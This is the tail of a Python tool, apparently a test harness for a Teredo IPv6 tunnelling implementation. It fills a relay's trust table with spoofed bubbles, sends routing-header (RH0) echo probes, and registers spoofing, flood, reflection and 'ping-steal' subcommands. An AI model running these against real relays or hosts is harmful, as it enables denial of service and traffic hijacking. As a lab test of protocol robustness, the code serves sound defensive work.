    res = {"targets": len(targets), "sent": 0, "bubbles_rx": 0,
           "data_rx": 0, "answered": 0, "rounds": 0}
    data = b"\x5a" * 16
    order = list(targets)
    # the datagrams spread over the interval: an entry lives until the
    # answer to its bubble is back (a burst would make the relay displace
    # untrusted entries of ours before that)
    gap = a.interval / len(order)
    end = time.monotonic() + a.duration
    nxt = time.monotonic()
    i = 0
    while time.monotonic() < end:
        if time.monotonic() >= nxt:
            try:
                native.sendto(data, (a6(order[i]), 9))
                res["sent"] += 1
            except OSError:
                pass
            i += 1
            if i == len(order):
                i = 0
                res["rounds"] += 1
            nxt += gap
        r, _, _ = select.select(socks, [], [], max(0, min(0.05,
                                nxt - time.monotonic())))
        for s in r:
            while True:
                try:
                    dgram, frm = s.recvfrom(4096, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    break
                pkt, origin = strip_teredo(dgram)
                if not pkt or len(pkt) < 40 or pkt[24:40] not in targets:
                    continue
                if final_nh(pkt)[0] == 59:
                    res["bubbles_rx"] += 1
                    to = origin or frm
                else:
                    res["data_rx"] += 1
                    to = frm
                # the answer: a bubble from that Teredo address, from
                # its mapping (D18 holds), straight to the relay
                if to[0] != a.relay:
                    to = relay
                s.sendto(bubble(pkt[24:40], pkt[8:24]), to)
                res["answered"] += 1
    out(res)


# ---- rh6 -----------------------------------------------------------------------------

def cmd_rh6(a):
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    icmp = socket.socket(socket.AF_INET6, socket.SOCK_RAW,
                         socket.IPPROTO_ICMPV6)
    dst = ipaddress.IPv6Address(a.dst).packed
    # our source: the address the kernel would use towards dst
    probe = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    probe.connect((a.dst, 9))
    src = ipaddress.IPv6Address(probe.getsockname()[0]).packed
    probe.close()
    ident = random.randrange(65536)
    res = {"sent": 0, "replies": 0, "control": 0, "kind": a.kind}

    def replies(until, seq_base):
        n = 0
        while True:
            left = until - time.monotonic()
            if left <= 0:
                return n
            r, _, _ = select.select([icmp], [], [], left)
            if not r:
                return n
            msg, frm = icmp.recvfrom(2048)
            # raw ICMPv6 sockets get the message without the IPv6 header
            if (len(msg) >= 8 and msg[0] == 129 and
                    struct.unpack("!H", msg[4:6])[0] == ident and
                    struct.unpack("!H", msg[6:8])[0] >= seq_base and
                    ipaddress.IPv6Address(frm[0]).packed == dst):
                n += 1

    # control: a plain echo request must be answered in every build
    for i in range(3):
        raw.sendto(icmp6(src, dst, 128, 0, struct.pack("!HH", ident, i) +
                         b"control!"), (a.dst, 0))
        res["control"] += replies(time.monotonic() + 0.5, 0)
        if res["control"]:
            break
    for i in range(a.count):
        echo = icmp6_msg(src, dst, 128, 0,
                         struct.pack("!HH", ident, 1000 + i) + b"routing!")
        if a.kind == "rh0-sl0":
            # RH0 already done (we are its last hop): Segments Left 0
            rh = struct.pack("!BBBBI", 58, 2, 0, 0, 0) + src
        else:
            rh = rh_chain(dst, 58)
        raw.sendto(ip6(src, dst, 43, rh + echo), (a.dst, 0))
        res["sent"] += 1
        res["replies"] += replies(time.monotonic() + a.wait / a.count, 1000)
    out(res)


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("ra-spoof")
    p.add_argument("--client", required=True)
    p.add_argument("--servers", required=True)
    p.add_argument("--prefix-server")
    p.add_argument("--mapped", required=True)
    p.add_argument("--duration", type=float, default=3)
    p.add_argument("--interval", type=float, default=0.01)
    p = sub.add_parser("echo-spoof")
    p.add_argument("--client", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--bind", type=int, default=0)
    p.add_argument("--duration", type=float, default=4)
    p.add_argument("--interval", type=float, default=0.01)
    p = sub.add_parser("rh0")
    p.add_argument("--client", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--me", required=True)
    p.add_argument("--victim", default="2001:db8:66::1")
    p.add_argument("--wait", type=float, default=3)
    p.add_argument("--chain", type=int, default=0)
    p = sub.add_parser("spoof-bubble")
    p.add_argument("--via", required=True)
    p.add_argument("--src-ep", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--count", type=int, default=5)
    p.add_argument("--interval", type=float, default=0.3)
    p = sub.add_parser("syn")
    p.add_argument("--server", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--me", required=True)
    p.add_argument("--ports", required=True)
    p.add_argument("--wait", type=float, default=2)
    p = sub.add_parser("rs-flood")
    p.add_argument("--server", required=True)
    p.add_argument("--id", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--count", type=int, default=20000)
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--wait", type=float, default=1)
    p.add_argument("--sources", type=int, default=1)
    p.add_argument("--src-from")
    p.add_argument("--burst", type=int, default=1)
    p = sub.add_parser("rs-probe")
    p.add_argument("--server", required=True)
    p.add_argument("--id", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--count", type=int, default=20)
    p.add_argument("--interval", type=float, default=0.1)
    p = sub.add_parser("flood6")
    p.add_argument("--count", type=int, default=20000)
    p.add_argument("--size", type=int, default=64)
    p.add_argument("--dsts", type=int, default=20000)
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--server", default="192.0.2.10")
    p.add_argument("--ports-from", type=int, default=20000)
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--dst")
    p = sub.add_parser("slowpeer")
    p.add_argument("--server", required=True)
    p.add_argument("--me", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--delay", type=float, default=0.5)
    p.add_argument("--duration", type=float, default=4)
    p = sub.add_parser("echo-flood")
    p.add_argument("--client", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--bind", type=int, default=3545)
    p.add_argument("--rate", type=float, default=40)
    p.add_argument("--duration", type=float, default=10)
    p.add_argument("--src-prefix", default="2001:db8:66::")
    p = sub.add_parser("bubble-flood")
    p.add_argument("--client", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--me", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, default=1024)
    p.add_argument("--rate", type=float, default=0)
    p = sub.add_parser("reflect-flood")
    p.add_argument("--via", required=True)
    p.add_argument("--src-ep", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--count", type=int, default=2000)
    p.add_argument("--rate", type=float, default=1000)
    p = sub.add_parser("flow")
    p.add_argument("--server", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--me", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tcp", type=int, required=True)
    p.add_argument("--udp", type=int, required=True)
    p.add_argument("--wait", type=float, default=1.5)
    p = sub.add_parser("frag")
    p.add_argument("--client", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--bind", type=int, required=True)
    p.add_argument("--count", type=int, default=3)
    p.add_argument("--interval", type=float, default=0.1)
    p = sub.add_parser("udp-answer")
    p.add_argument("--server", required=True)
    p.add_argument("--me", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--listen", type=int, default=7001)
    p.add_argument("--wait", type=float, default=4)
    p.add_argument("--ready")
    p = sub.add_parser("ping-steal")
    p.add_argument("--client", required=True)
    p.add_argument("--me6", required=True)
    p.add_argument("--spoof-ep", required=True)
    p.add_argument("--delay", type=float, default=0.3)
    p.add_argument("--wait", type=float, default=6)
    p.add_argument("--ready")
    p = sub.add_parser("sink")
    p.add_argument("--bind", required=True)
    p.add_argument("--port", default=str(TEREDO_PORT))
    p.add_argument("--duration", type=float, default=10)
    p = sub.add_parser("echo6-spoof")
    p.add_argument("--dst", required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--mapped", required=True)
    p.add_argument("--count", type=int, default=500)
    p.add_argument("--rate", type=float, default=250)
    p = sub.add_parser("trust-fill")
    p.add_argument("--me", required=True)
    p.add_argument("--ports", required=True)
    p.add_argument("--per", type=int, default=64)
    p.add_argument("--relay", required=True)
    p.add_argument("--server", default="192.0.2.10")
    p.add_argument("--duration", type=float, default=10)
    p.add_argument("--interval", type=float, default=1)
    p = sub.add_parser("rh6")
    p.add_argument("--dst", required=True)
    p.add_argument("--kind", choices=["rh0-sl0", "chain"], required=True)
    p.add_argument("--count", type=int, default=3)
    p.add_argument("--wait", type=float, default=1.5)
    a = ap.parse_args()
    {"ra-spoof": cmd_ra_spoof, "echo-spoof": cmd_echo_spoof, "rh0": cmd_rh0,
     "spoof-bubble": cmd_spoof_bubble, "syn": cmd_syn,
     "rs-flood": cmd_rs_flood, "rs-probe": cmd_rs_probe,
     "flood6": cmd_flood6, "slowpeer": cmd_slowpeer,
     "echo-flood": cmd_echo_flood, "bubble-flood": cmd_bubble_flood,
     "reflect-flood": cmd_reflect_flood, "flow": cmd_flow,
     "frag": cmd_frag, "udp-answer": cmd_udp_answer,
     "ping-steal": cmd_ping_steal, "sink": cmd_sink,
     "trust-fill": cmd_trust_fill, "rh6": cmd_rh6,
     "echo6-spoof": cmd_echo6_spoof}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
